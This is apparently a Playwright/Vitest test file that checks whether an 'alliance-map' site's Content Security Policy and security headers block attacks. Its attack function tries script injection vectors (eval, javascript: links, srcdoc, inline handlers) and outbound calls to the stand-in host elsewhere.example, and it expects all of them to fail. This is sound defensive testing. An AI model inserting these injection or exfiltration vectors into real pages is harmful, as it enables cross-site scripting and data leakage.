/* oxlint-disable no-eval, typescript/no-implied-eval -- they are the attacks */
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from 'playwright-core';
import { beforeAll, expect, test } from 'vitest';
import { whenReady } from '../support/chromium.ts';
import { sharedChromium, sharedSite } from '../support/shared.ts';
import { dist } from '../support/site.ts';

let site: string;

beforeAll(async () => {
  site = await sharedSite();
});

const places = {
  'the site': () => site,
  'the single file over http': () => `${site}alliance-map.html`,
  'the single file from a disk': () => pathToFileURL(join(dist, 'alliance-map.html')).href,
};

/**
 * Tries what an attacker would try. It runs in a task of the page, because code that a driver evaluates directly is
 * exempt from the policy.
 */
function attack(page: Page): Promise<readonly string[]> {
  return page.evaluate(
    () =>
      new Promise<readonly string[]>((resolve) => {
        setTimeout(() => {
          const ran = window as { ran?: string[] };
          const through: string[] = (ran.ran = []);
          const run = (name: string) => `window.ran.push('${name}')`;
          const attempts: Record<string, () => unknown> = {
            'inline script': () => {
              const script = document.createElement('script');
              script.textContent = run('inline script');
              document.body.append(script);
            },
            'script of another origin': () => {
              const script = document.createElement('script');
              script.src = 'https://elsewhere.example/script.js';
              document.body.append(script);
            },
            innerHTML: () => {
              document.createElement('div').innerHTML = '<b>bold</b>';
              through.push('innerHTML');
            },
            eval: () => (0, eval)(run('eval')),
            'new Function': () => new Function(run('new Function'))(),
            'timer of text': () => setTimeout(run('timer of text')),
            'handler in an attribute': () => {
              const button = document.createElement('button');
              button.setAttribute('onclick', run('handler in an attribute'));
              button.click();
            },
            'javascript: link': () => {
              const link = document.createElement('a');
              link.setAttribute('href', `javascript:${run('javascript: link')}`);
              document.body.append(link);
              link.click();
            },
            srcdoc: () => {
              const frame = document.createElement('iframe');
              frame.srcdoc = `<script>parent.${run('srcdoc')}</script>`;
              document.body.append(frame);
            },
            'inline style': () => {
              const style = document.createElement('style');
              style.textContent = 'h1 { outline: 7px solid red }';
              document.head.append(style);
              const title = document.querySelector('h1');
              if (title && getComputedStyle(title).outlineWidth === '7px')
                through.push('inline style');
            },
            'policy of its own': () => {
              const { trustedTypes } = window as unknown as {
                trustedTypes: { createPolicy(name: string, rules: object): unknown };
              };
              trustedTypes.createPolicy('default', {});
              through.push('policy of its own');
            },
            'foreign picture': () => {
              const image = new Image();
              image.src = 'https://elsewhere.example/pixel.png';
            },
            base: () => {
              const base = document.createElement('base');
              base.href = 'https://elsewhere.example/';
              document.head.append(base);
              if (document.baseURI.startsWith('https://elsewhere')) through.push('base');
              base.remove();
            },
            form: () => {
              const form = document.createElement('form');
              form.action = 'https://elsewhere.example/';
              document.body.append(form);
              form.submit();
            },
            'foreign fetch': () =>
              fetch('https://elsewhere.example/').then(
                () => through.push('foreign fetch'),
                () => undefined,
              ),
            beacon: () => navigator.sendBeacon('https://elsewhere.example/', 'word'),
          };
          for (const attempt of Object.values(attempts)) {
            try {
              attempt();
            } catch {
              // Blocked, as it should be.
            }
          }
          setTimeout(() => resolve(through), 500);
        });
      }),
  );
}

test.each(Object.entries(places))('%s runs nothing but itself', async (_, address) => {
  const context = await (await sharedChromium()).newContext();
  const sent: string[] = [];
  await context.route(/elsewhere\.example/, async (route) => {
    sent.push(route.request().url());
    await route.fulfill({ body: '', headers: { 'Access-Control-Allow-Origin': '*' } });
  });
  const page = await context.newPage();
  await page.goto(address());
  await whenReady(page);
  expect(await attack(page)).toEqual([]);
  expect(sent).toEqual([]);
  expect(await page.locator('h1').count()).toBe(1);
  await context.close();
});

test.each(['', 'index.html', 'alliance-map.html'])(
  'the policy of /%s is in the page and in its header, without anything unsafe',
  async (path) => {
    const response = await fetch(site + path);
    const header = response.headers.get('content-security-policy') ?? '';
    const html = await response.text();
    const meta = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
    expect(header).toBe(`${meta}; frame-ancestors 'self'`);
    expect(meta).toContain("default-src 'none'");
    expect(meta).toContain("require-trusted-types-for 'script'");
    expect(meta).not.toMatch(/unsafe|\*|https?:/);
  },
);

test('every address sends the headers that every answer needs', async () => {
  for (const path of ['', 'favicon.svg', 'alliance-map.html', 'sw.js', 'nowhere']) {
    const { headers } = await fetch(site + path);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('referrer-policy')).toBe('no-referrer');
    expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
    expect(headers.get('cross-origin-embedder-policy')).toBe('require-corp');
    expect(headers.get('permissions-policy')).toContain('camera=()');
  }
});

test('only the embedded page may be framed by others', async () => {
  const policyAt = async (path: string) =>
    (await fetch(site + path)).headers.get('content-security-policy');
  expect(await policyAt('?view=table')).toContain("frame-ancestors 'self'");
  expect(await policyAt('?mode=embed')).toContain('frame-ancestors *');
});
